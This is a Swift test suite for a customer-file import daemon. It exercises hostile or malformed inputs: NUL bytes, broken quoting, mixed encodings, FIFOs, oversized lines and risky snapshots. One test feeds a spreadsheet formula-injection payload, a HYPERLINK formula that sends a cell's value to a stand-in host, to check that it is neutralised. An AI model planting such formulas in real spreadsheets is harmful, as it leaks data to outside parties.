import BeckonCore
import BeckonStore
import Foundation
import GRDB
import Logging
import Testing
@testable import BeckonInbox
#if canImport(Glibc)
import Glibc
#endif

extension InboxFixture: @unchecked Sendable {}

extension InboxFixture {
    func writeBytes(_ bytes: [UInt8], as name: String) throws {
        try Data(bytes).write(to: inbox.appendingPathComponent(name))
    }

    func names(in folder: String = "") throws -> [String] {
        try FileManager.default.contentsOfDirectory(atPath: inbox.appendingPathComponent(folder).path).sorted()
    }

    func activeCount() throws -> Int { try store.activeCustomerCount(among: nil) }

    func customers(_ count: Int, prefix: String = "C") -> String {
        var text = "customer_id,name,phone\n"
        for i in 0..<count { text += "\(prefix)\(i),n\(i),139\(String(format: "%08d", i))\n" }
        return text
    }
}

/// GB18030 bytes of `text` (through iconv, as an ERP would write them).
func gb18030(_ text: String) -> [UInt8] {
    let converter = iconv_open("GB18030", "UTF-8")
    defer { iconv_close(converter) }
    var input = Array(text.utf8)
    var output = [UInt8](repeating: 0, count: input.count * 2 + 8)
    var inLeft = input.count, outLeft = output.count
    input.withUnsafeMutableBufferPointer { inBuffer in
        output.withUnsafeMutableBufferPointer { outBuffer in
            var inPointer: UnsafeMutablePointer<CChar>? = UnsafeMutableRawPointer(inBuffer.baseAddress!).assumingMemoryBound(to: CChar.self)
            var outPointer: UnsafeMutablePointer<CChar>? = UnsafeMutableRawPointer(outBuffer.baseAddress!).assumingMemoryBound(to: CChar.self)
            _ = iconv(converter, &inPointer, &inLeft, &outPointer, &outLeft)
        }
    }
    return Array(output[0..<(output.count - outLeft)])
}

@Suite("Inbox: hostile or unlucky files")
struct HostileFileTests {
    @Test("replica_members.csv and bus_stop_members.csv are customer files, not opt-out lists")
    func lookalikeNames() throws {
        let fixture = try InboxFixture()
        try fixture.write("customer_id,name,phone\nR1,a,13800138000\n", as: "replica_members.csv")
        try fixture.write("customer_id,name,phone\nB1,b,13900139000\n", as: "bus_stop_members.csv")
        let outcomes = fixture.run()
        #expect(outcomes.map(\.kind) == [.imported, .imported])
        #expect(outcomes.allSatisfy { $0.detail.hasPrefix("customers by header") })
        #expect(try fixture.store.suppressions(customerIDs: ["R1", "B1"], phones: ["+8613800138000", "+8613900139000"]).isEmpty)
        #expect(try fixture.store.customer(id: "R1") != nil && (try fixture.store.customer(id: "B1")) != nil)
    }

    @Test("a name that says opt-out over a customer file's header is quarantined as ambiguous, never applied")
    func optOutNameOverCustomerHeader() throws {
        let fixture = try InboxFixture()
        try fixture.write("customer_id,name,phone\nS1,a,13800138000\n", as: "stop-members.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.kind == .rejected)
        #expect(try fixture.read("rejected/stop-members.csv.reason").contains("ambiguous kind: the name says an opt-out file (pattern 'stop[-_.]*')"))
        #expect(try fixture.store.suppressions(customerIDs: ["S1"], phones: ["+8613800138000"]).isEmpty)
        #expect(try fixture.store.customer(id: "S1") == nil)
    }

    @Test("an opt-out file needs a reply or a phone column")
    func optOutNeedsPhoneOrReply() throws {
        let fixture = try InboxFixture()
        try fixture.write("customer_id\nC1\n", as: "optout-ids.csv")
        #expect(fixture.run().first?.kind == .rejected)
        #expect(try fixture.read("rejected/optout-ids.csv.reason").contains("needs a reply column (replies) or a phone column"))
    }

    @Test("a header with reply and event columns is ambiguous")
    func ambiguousHeader() throws {
        let fixture = try InboxFixture()
        try fixture.write("customer_id,event,at,reply\nC1,x,2026-11-24,TD\n", as: "data.csv")
        #expect(fixture.run().first?.kind == .rejected)
        #expect(try fixture.read("rejected/data.csv.reason").contains("ambiguous kind: the header has the columns of a trigger file"))
    }

    @Test("a one-row file named *full* is a delta: nobody is deactivated")
    func fullIsNotASnapshot() throws {
        let fixture = try InboxFixture()
        try fixture.write(fixture.customers(100), as: "members.csv")
        try fixture.write("customer_id,name,phone\nC1,a,13800138000\n", as: "members_full.csv")
        _ = fixture.run()
        #expect(try fixture.activeCount() == 100)
    }

    @Test("a snapshot deactivating more than 20% is held with nothing applied, until confirmed")
    func snapshotHeld() throws {
        let fixture = try InboxFixture()
        try fixture.write(fixture.customers(100), as: "members.csv")
        _ = fixture.run()
        try fixture.write("customer_id,name,phone\nC1,renamed,13800138000\n", as: "members-snapshot.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.kind == .held)
        #expect(outcome.detail.contains("would make 99 of the 100 active customers inactive (99.0%, more than inbox.snapshot_max_deactivate 20%)"))
        #expect(try fixture.read("held/members-snapshot.csv.reason").contains("beckon import --confirm-snapshot"))
        #expect(try fixture.activeCount() == 100)
        #expect(try fixture.store.customer(id: "C1")?.name == "n1")
        // The operator confirms: applied, moved to the archive, the reason gone.
        let confirmed = fixture.processor.importKeepingFile(fixture.inbox.appendingPathComponent("held/members-snapshot.csv"),
                                                            now: InboxFixture.now, timeZone: InboxFixture.zone, confirmSnapshot: true)
        #expect(confirmed.kind == .imported)
        #expect(try fixture.activeCount() == 1)
        #expect(try fixture.store.customer(id: "C1")?.name == "renamed")
        #expect(fixture.exists("archive/2026-11-24/members-snapshot.csv"))
        #expect(!fixture.exists("held/members-snapshot.csv.reason"))
    }

    @Test("a snapshot within the share applies; a customer whose row was rejected stays active")
    func snapshotWithinShare() throws {
        let fixture = try InboxFixture()
        try fixture.write(fixture.customers(10), as: "members.csv")
        _ = fixture.run()
        var text = "customer_id,name,phone\n"
        for i in 0..<8 { text += i == 3 ? "C3,bad phone,12345\n" : "C\(i),n\(i),139\(String(format: "%08d", i))\n" }
        try fixture.write(text, as: "snapshot-2026-11-24.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.kind == .imported && outcome.rejectedRows == 1)
        #expect(outcome.detail.hasPrefix("customers snapshot by name ('snapshot[-_.]*')"))
        #expect(try fixture.activeCount() == 8)
        #expect(try fixture.store.customer(id: "C3")?.active == true)
        #expect(try fixture.store.customer(id: "C9")?.active == false)
    }

    @Test("a NAME.snapshot marker declares a snapshot (and makes the file ready)")
    func snapshotMarker() throws {
        let fixture = try InboxFixture(stableSeconds: 3600, fileClock: FixedClock(Date()))
        try fixture.store.upsert([Customer(id: "C1", name: "a", phone: "+8613800138000"), Customer(id: "C2", name: "b", phone: "+8613900139000"),
                                  Customer(id: "C3", name: "c", phone: "+8613700137000"), Customer(id: "C4", name: "d", phone: "+8613600136000"),
                                  Customer(id: "C5", name: "e", phone: "+8613500135000"), Customer(id: "C6", name: "f", phone: "+8613400134000")])
        try fixture.write(fixture.customers(6), as: "members.csv")
        try fixture.write("", as: "members.csv.snapshot")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.kind == .imported)
        #expect(try fixture.store.customer(id: "C6")?.active == false) // 1 of 6 inactive: within 20%
        #expect(try fixture.store.customer(id: "C5")?.active == true)
        #expect(!fixture.exists("members.csv.snapshot"))
    }

    @Test("VIC-0001<NUL>x is a row error and never touches customer VIC-0001")
    func nulByte() throws {
        let fixture = try InboxFixture()
        try fixture.write("customer_id,name,phone\nVIC-0001,Victor,13800138000\n", as: "a.csv")
        _ = fixture.run()
        try fixture.writeBytes(Array("customer_id,name,phone\nVIC-0001".utf8) + [0] + Array("x,Mallory,13900139000\nC2,ok,13700137000\n".utf8), as: "b.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.rows == 2 && outcome.rejectedRows == 1)
        #expect(outcome.errors.first?.line == 2 && outcome.errors.first?.field == "customer_id")
        #expect(outcome.errors.first?.value == "VIC-0001\\0x")
        #expect(try fixture.store.customer(id: "VIC-0001")?.phone == "+8613800138000")
        #expect(try fixture.store.customer(id: "C2") != nil)
    }

    @Test("more than 25,000 rows with an unclosed quote near the end: quarantined with nothing applied")
    func unclosedQuoteInBigFile() throws {
        let fixture = try InboxFixture()
        var text = fixture.customers(60_000)
        text += "X1,\"never closed,13800138000\nX2,n,13900139000\n"
        try fixture.write(text, as: "big.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.kind == .rejected)
        #expect(outcome.detail.contains("line 60002: a quoted field is never closed"))
        #expect(try fixture.store.customerCount() == 0)
        #expect(try fixture.store.importProgress(sha256: InboxProcessor.sha256(of: FileHandle(forReadingFrom: fixture.inbox.appendingPathComponent("rejected/big.csv")))) == nil)
        #expect(fixture.exists("rejected/big.csv.reason"))
    }

    @Test("a stray quote inside an unquoted field is taken literally; text after a closing quote is a row error")
    func strayQuotes() throws {
        let fixture = try InboxFixture()
        try fixture.write("customer_id,name,phone,size\nC1,Ann,13800138000,5\" pipe\nC2,\"Bo\"b,13900139000,\nC3,Cy,13700137000,x\n", as: "quotes.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.kind == .imported && outcome.rows == 3 && outcome.rejectedRows == 1)
        #expect(try fixture.store.customer(id: "C1")?.attributes["size"] == "5\" pipe")
        #expect(outcome.errors.first?.line == 3 && outcome.errors.first?.field == "name")
        #expect(try fixture.store.customer(id: "C3") != nil)
    }

    @Test("a bad JSON line is a row error; the good lines land, keys only later lines have are kept")
    func badJSONLine() throws {
        let fixture = try InboxFixture()
        try fixture.write("""
            {"customer_id":"J1","name":"王芳","phone":"13800138000"}
            {"customer_id":"J2","name":"broken
            {"customer_id":"J3","name":"李雷","phone":"13900139000","vip":true,"level":3}
            [1,2]

            """, as: "members.jsonl")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.kind == .imported && outcome.rows == 4 && outcome.rejectedRows == 2)
        #expect(outcome.errors.map(\.line) == [2, 4])
        #expect(try fixture.store.customer(id: "J3")?.attributes == ["level": "3", "vip": "true"])
        #expect(try fixture.store.customer(id: "J1")?.name == "王芳")
    }

    @Test("a GB18030 file with a UTF-8 line: that line is a row error, never stored as 寮犱紵")
    func utf8LineInGB18030File() throws {
        let fixture = try InboxFixture()
        var bytes = gb18030("customer_id,name,phone,city\n")
        for i in 0..<50 { bytes += gb18030("G\(i),王芳\(i),139\(String(format: "%08d", i)),上海\n") }
        bytes += Array("U1,张伟,13800138000,北京\n".utf8)
        bytes += gb18030("G99,李雷,13700137000,广州\n")
        try fixture.writeBytes(bytes, as: "members-gbk.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.rows == 52 && outcome.rejectedRows == 1)
        let error = try #require(outcome.errors.first)
        #expect(error.line == 52 && error.field == "name" && error.value == "张伟")
        #expect(error.reason.contains("reads as UTF-8 but the file is GB18030"))
        #expect(try fixture.store.customer(id: "U1") == nil)
        #expect(try fixture.store.customer(id: "G99")?.name == "李雷")
        #expect(try fixture.store.customer(id: "G3")?.attributes["city"] == "上海")
    }

    @Test("a UTF-8 file with a GB18030 line: a row error, never stored with U+FFFD")
    func gbLineInUTF8File() throws {
        let fixture = try InboxFixture()
        var bytes = Array("customer_id,name,phone\n".utf8)
        for i in 0..<20 { bytes += Array("U\(i),张伟\(i),139\(String(format: "%08d", i))\n".utf8) }
        bytes += gb18030("G1,王芳,13800138000\n")
        try fixture.writeBytes(bytes, as: "members.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.rows == 21 && outcome.rejectedRows == 1)
        #expect(outcome.errors.first?.line == 22 && outcome.errors.first?.value == "王芳")
        #expect(outcome.errors.first?.reason.contains("not valid UTF-8") == true)
        #expect(try fixture.store.customer(id: "G1") == nil)
        #expect(try fixture.store.customer(id: "U3")?.name == "张伟3")
    }

    @Test("an invalid GB18030 sequence is a row error, and no hidden copy of the data is left in the inbox")
    func failedConversion() throws {
        let fixture = try InboxFixture()
        var bytes = gb18030("customer_id,name,phone\nG1,王芳,13800138000\n")
        bytes += Array("G2,".utf8) + [0xB0, 0xA1, 0xFF, 0x81] + Array(",13900139000\n".utf8)
        bytes += gb18030("G3,李雷,13700137000\n")
        try fixture.writeBytes(bytes, as: "members.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.rows == 3 && outcome.rejectedRows == 1 && outcome.errors.first?.line == 3)
        #expect(outcome.errors.first?.value.contains("\\xFF") == true)
        #expect(try fixture.names() == ["archive", "rejected"])
        #expect(try fixture.store.customer(id: "G3")?.name == "李雷")
    }

    @Test("a binary file is quarantined whole, and its reason says why")
    func binary() throws {
        let fixture = try InboxFixture()
        var random = SeededRandom(seed: 7)
        try fixture.writeBytes((0..<4096).map { _ in UInt8.random(in: 0...255, using: &random) }, as: "export.xlsx.csv")
        #expect(fixture.run().first?.kind == .rejected)
        #expect(try fixture.read("rejected/export.xlsx.csv.reason").contains("neither UTF-8 nor GB18030"))
    }

    @Test("an 80-character Chinese name still gets its errors.csv and reason files, shortened and recognisable")
    func longNames() throws {
        let fixture = try InboxFixture()
        let stem = String(repeating: "会员资料导出", count: 13) + "张伟x" // 81 characters, 241 bytes: 245 with .csv
        let good = stem + ".csv"
        try fixture.write("customer_id,name,phone\nC1,a,12345\nC2,b,13800138000\n", as: good)
        let bad = String(repeating: "坏", count: 80) + ".csv"
        try fixture.writeBytes([0xFF, 0xFE, 0, 0], as: bad)
        let outcomes = fixture.run()
        #expect(outcomes.map(\.kind).sorted { $0.rawValue < $1.rawValue } == [.imported, .rejected])
        let reports = try fixture.names(in: "rejected")
        let errors = try #require(reports.first { $0.hasSuffix(".errors.csv") })
        #expect(errors.hasPrefix(String(stem.prefix(60))) && errors.utf8.count <= 255 && errors.contains("~"))
        #expect(try fixture.read("rejected/" + errors).contains("12345,not a valid phone number"))
        let reason = try #require(reports.first { $0.hasSuffix(".reason") })
        #expect(reason.hasPrefix("坏坏坏") && reason.utf8.count <= 255)
        #expect(try fixture.read("rejected/" + reason).contains("UTF-16"))
        #expect(reports.contains(bad))
    }

    @Test("errors.csv neutralises formulas but keeps phones and negative numbers as they are")
    func formulaInjection() throws {
        let fixture = try InboxFixture()
        try fixture.write("""
            customer_id,name,phone,order_count
            C1,a,=HYPERLINK("http://x.example/?"&A1;"click"),1
            C2,b,+8613800,1
            C3,c,13800138000,-5
            C4,d,@SUM(A1),1

            """, as: "members.csv")
        _ = fixture.run()
        let errors = try fixture.read("rejected/members.csv.errors.csv")
        #expect(errors.contains("2,phone,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"click\"\")\",not a valid phone number"))
        #expect(errors.contains("3,phone,+8613800,not a valid phone number"))
        #expect(errors.contains("4,order_count,-5,not a whole number"))
        #expect(errors.contains("5,phone,'@SUM(A1),not a valid phone number"))
    }

    @Test("30,000 blank lines neither crash nor stop the import")
    func blankLines() throws {
        let fixture = try InboxFixture()
        try fixture.write("customer_id,name,phone\n" + String(repeating: "\n", count: 30_000) + "C1,a,13800138000\n"
                          + String(repeating: "\r\n", count: 20_000), as: "blank.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.kind == .imported && outcome.rows == 1)
        #expect(try fixture.store.customer(id: "C1")?.source == "blank.csv:30002")
    }

    @Test("a line of 20 MB is a row error of its own; the rows around it land")
    func hugeLine() throws {
        let fixture = try InboxFixture()
        let huge = "C2,\"" + String(repeating: "x", count: 20 << 20) + "\",13900139000\n"
        try fixture.write("customer_id,name,phone\nC1,a,13800138000\n" + huge + "C3,c,13700137000\n", as: "huge.csv")
        let outcome = try #require(fixture.run().first)
        #expect(outcome.rows == 3 && outcome.rejectedRows == 1)
        #expect(outcome.errors.first?.line == 3 && outcome.errors.first?.reason.contains("bytes long") == true)
        #expect(try fixture.store.customer(id: "C3") != nil && (try fixture.store.customer(id: "C2")) == nil)
    }

    @Test("a FIFO in the inbox is never opened, so it cannot block the daemon")
    func fifo() throws {
        let fixture = try InboxFixture()
        let path = fixture.inbox.appendingPathComponent("pipe.csv").path
        #expect(mkfifo(path, 0o644) == 0)
        try fixture.write("customer_id,name,phone\nC1,a,13800138000\n", as: "ok.csv")
        let outcomes = fixture.run()
        #expect(outcomes.map(\.file) == ["ok.csv"])
        // Even when handed one directly (as a scan racing a rename could), it is refused at once.
        let direct = fixture.processor.process(URL(fileURLWithPath: path), now: InboxFixture.now, timeZone: InboxFixture.zone, dryRun: true)
        #expect(direct.kind == .rejected && direct.detail.contains("not a regular file"))
    }

    @Test("a file another process took is not an error: no .reason, no quarantine")
    func takenByAnotherProcess() throws {
        let fixture = try InboxFixture()
        try fixture.write("customer_id,name,phone\nC1,a,13800138000\n", as: "gone.csv")
        let ready = try fixture.processor.readyFiles()
        try FileManager.default.removeItem(at: ready[0])
        let outcome = fixture.processor.process(ready[0], now: InboxFixture.now, timeZone: InboxFixture.zone)
        #expect(outcome.kind == .gone)
        #expect(!fixture.exists("rejected"))
    }

    @Test("two processors on one inbox, 40 files: each file imported once, no false .reason")
    func twoProcessorsOneInbox() async throws {
        let fixture = try InboxFixture()
        let other = InboxProcessor(inbox: fixture.inbox, store: try SQLiteStore(), stableSeconds: 0, fileClock: FixedClock(Date(timeIntervalSinceNow: 3600)),
                                   logger: Logger(label: "other"))
        for i in 0..<40 { try fixture.write("customer_id,name,phone\nC\(i),n,139\(String(format: "%08d", i))\n", as: "f\(i).csv") }
        async let first = Task.detached { fixture.run() }.value
        async let second = Task.detached { other.processReadyFiles(now: InboxFixture.now, timeZone: InboxFixture.zone) }.value
        let outcomes = await first + second
        #expect(outcomes.allSatisfy { $0.kind == .imported || $0.kind == .gone || $0.kind == .duplicate })
        #expect(Set(outcomes.filter { $0.kind == .imported }.map(\.file)).count == 40)
        #expect(!fixture.exists("rejected"))
    }

    @Test("a file too young for stable_seconds is reported with when it will be taken")
    func waitingFile() throws {
        let clock = MutableClock(Date(timeIntervalSince1970: 1_800_000_000))
        let fixture = try InboxFixture(stableSeconds: 5, fileClock: clock)
        try fixture.write("customer_id,name,phone\nC1,a,13800138000\n", as: "fresh.csv")
        let url = fixture.inbox.appendingPathComponent("fresh.csv")
        try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSince1970: 1_800_000_000 - 2)], ofItemAtPath: url.path)
        let outcome = try #require(fixture.run().first)
        #expect(outcome.kind == .waiting)
        #expect(outcome.detail.contains("less than stable_seconds (5 s) ago: taken from 2027-01-15T16:00:03+08:00"))
        #expect(outcome.detail.contains("without cp -p"))
        #expect(fixture.exists("fresh.csv"))
    }
}

/// SplitMix64: a seeded generator, so a failing random case can be replayed.
struct SeededRandom: RandomNumberGenerator {
    var state: UInt64
    init(seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}
